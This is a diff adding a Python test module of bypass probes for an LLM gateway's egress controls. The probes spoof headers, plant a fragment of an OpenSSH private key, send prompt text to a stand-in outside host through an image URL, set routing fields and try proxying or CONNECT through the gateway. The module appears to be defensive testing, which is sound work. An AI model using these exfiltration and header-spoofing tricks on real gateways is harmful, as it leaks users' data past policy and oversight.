@@ -1,0 +1,152 @@
+"""What a caller can say so that its text goes further than its profile lets it."""
+
+from __future__ import annotations
+
+from typing import Any
+
+from ringfence.prove.house import House
+from ringfence.prove.temptations import (
+    CLOUD_HOST,
+    CLOUD_MODEL,
+    ELSEWHERE,
+    ELSEWHERE_HOST,
+    LABEL,
+    LOCAL_MODEL,
+    MESH_MODEL,
+    OPEN_AGENT,
+    OPEN_PROFILE,
+    OPEN_TOOL,
+)  # fmt: skip
+from ringfence.prove.way import Tried, Way
+
+ORDER = 1
+PRIVATE_KEY_TEXT = (
+    "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n"
+)
+AWAY = f"http://{ELSEWHERE_HOST}/picture.png"
+AWAY_BY_ADDRESS = f"https://{ELSEWHERE}/v1"
+STEERING: dict[str, Any] = {
+    "api_base": AWAY_BY_ADDRESS, "base_url": AWAY_BY_ADDRESS, "fallbacks": [CLOUD_MODEL],
+    "custom_llm_provider": "openai", "extra_headers": {"x-forward-to": AWAY_BY_ADDRESS},
+    "kv_transfer_params": {"remote_host": ELSEWHERE, "remote_port": 80},
+}  # fmt: skip
+
+
+def _tool(name: str) -> dict[str, Any]:
+    return {"type": "function", "function": {"name": name, "parameters": {"type": "object", "properties": {}}}}
+
+
+async def _cloud_model(house: House, text: str) -> Tried:
+    return Tried.by(await house.chat(text, CLOUD_MODEL))
+
+
+async def _streamed(house: House, text: str) -> Tried:
+    return Tried.by(await house.chat(text, CLOUD_MODEL, stream=True))
+
+
+async def _completions(house: House, text: str) -> Tried:
+    return Tried.by(await house.ask("/v1/completions", {"model": CLOUD_MODEL, "prompt": text, "max_tokens": 8}))
+
+
+async def _embeddings(house: House, text: str) -> Tried:
+    return Tried.by(await house.ask("/v1/embeddings", {"model": CLOUD_MODEL, "input": text}))
+
+
+async def _every_model(house: House, text: str) -> Tried:
+    """Each name of the configuration, aliases included."""
+    names = [name for model, told in house.models.items() for name in (model, *told.get("aliases", ()))]
+    answers = [await house.chat(text, name) for name in names]
+    refused = sum(said.status >= 400 for said in answers)
+    return Tried(f"{len(names)} names, {refused} refused", all(said.status for said in answers))
+
+
+async def _auto(house: House, text: str) -> Tried:
+    return Tried.by(await house.chat(text, "auto"))
+
+
+async def _mesh_model(house: House, text: str) -> Tried | None:
+    return Tried.by(await house.chat(text, MESH_MODEL)) if MESH_MODEL in house.models else None
+
+
+async def _agent(house: House, text: str) -> Tried:
+    return Tried.by(await house.chat(text, CLOUD_MODEL, {"x-ringfence-agent": OPEN_AGENT}))
+
+
+async def _profile(house: House, text: str) -> Tried:
+    """A coordinator may do that: for the profiles that its own one lists."""
+    return Tried.by(await house.chat(text, CLOUD_MODEL, {"x-ringfence-profile": OPEN_PROFILE}))
+
+
+async def _label(house: House, text: str) -> Tried:
+    return Tried.by(await house.chat(text, CLOUD_MODEL, {"x-ringfence-label": LABEL}))
+
+
+async def _secret(house: House, text: str) -> Tried:
+    return Tried.by(await house.chat(f"{text}\n{PRIVATE_KEY_TEXT}", CLOUD_MODEL))
+
+
+async def _tool_of_another(house: House, text: str) -> Tried:
+    return Tried.by(await house.chat(text, CLOUD_MODEL, tools=[_tool(OPEN_TOOL)]))
+
+
+async def _unlisted_tool(house: House, text: str) -> Tried:
+    return Tried.by(await house.chat(text, CLOUD_MODEL, tools=[_tool("prove_not_listed")]))
+
+
+async def _remote_media(house: House, text: str) -> Tried:
+    parts = [{"type": "text", "text": text}, {"type": "image_url", "image_url": {"url": f"{AWAY}?{text}"}}]
+    body = {"model": LOCAL_MODEL, "messages": [{"role": "user", "content": parts}]}
+    return Tried.by(await house.ask("/v1/chat/completions", body))
+
+
+async def _steering(house: House, text: str) -> Tried:
+    answers = [await house.chat(text, LOCAL_MODEL, **{name: value}) for name, value in STEERING.items()]
+    return Tried(
+        f"{len(answers)} fields, {sum(said.status == 400 for said in answers)} refused",
+        all(said.status for said in answers),
+    )
+
+
+async def _as_proxy(house: House, text: str) -> Tried:
+    """Absolute addresses, CONNECT, and headers by which proxies are told where to go."""
+    body = {"model": LOCAL_MODEL, "messages": [{"role": "user", "content": text}]}
+    absolute = await house.ask(f"http://{ELSEWHERE_HOST}/v1/chat/completions", body)
+    tunnel = await house.ask(f"{ELSEWHERE}:443", None, method="CONNECT")
+    told = {"forwarded": f"host={ELSEWHERE_HOST}", "x-forwarded-host": CLOUD_HOST, "x-original-url": AWAY}
+    steered = await house.ask("/v1/chat/completions", body, told)
+    answers = (absolute, tunnel, steered)
+    return Tried(", ".join(said.in_words for said in answers), bool(absolute.status and steered.status))
+
+
+async def _explained(house: House, text: str) -> Tried:
+    """The owner asks what would become of a text; the answer must not need to send it."""
+    status, told = await house.ringfence("explain", CLOUD_MODEL, "--prompt", text, "--key", house.key, "--json")
+    return Tried("explained" if status == 0 else "refused", status in (0, 1) and bool(told))
+
+
+_CHAT = (
+    "dialect chat", "call gateway/pipeline.py:read_call", "permit gateway/pipeline.py:Pipeline.complete",
+    "permit gateway/cloud.py:request", "permit egress/calls.py:Calls._sent",
+)  # fmt: skip
+WAYS = (
+    Way("cloud-model", "names a rented model", _cloud_model, _CHAT, reaches=True),
+    Way("cloud-stream", "names a rented model and asks for a stream", _streamed, reaches=True),
+    Way("completions", "asks a rented model for a completion", _completions, ("dialect completions",)),
+    Way("embeddings", "asks a rented model for embeddings", _embeddings, ("dialect embeddings",)),
+    Way("every-model", "asks every model of the configuration by each of its names", _every_model),
+    Way("auto", "leaves the choice to the profile's chain", _auto),
+    Way("mesh-model", "names a model in the mesh", _mesh_model),
+    Way("agent-header", "says it is an agent that may reach clouds", _agent, ("header x-ringfence-agent",)),
+    Way("profile-header", "names a profile that may reach clouds", _profile, ("header x-ringfence-profile",)),
+    Way("label", "labels the text as one that stays", _label, ("header x-ringfence-label",), stays=True),
+    Way("secret", "has a private key in the text", _secret, stays=True),
+    Way("tool", "offers a tool of a profile that may reach clouds", _tool_of_another),
+    Way("unlisted-tool", "offers a tool that nobody listed", _unlisted_tool, stays=True),
+    Way("remote-media", "names a picture elsewhere, with the text in its address", _remote_media, stays=True),
+    Way("steering-fields", "uses fields that send other gateways and engines elsewhere", _steering, stays=True),
+    Way("as-proxy", "uses the gateway as a proxy to elsewhere", _as_proxy, stays=True),
+    Way(
+        "explain", "asks what would become of a text", _explained, ("call runtime/overview.py:Overview.explain",),
+        stays=True,
+    ),
+)  # fmt: skip
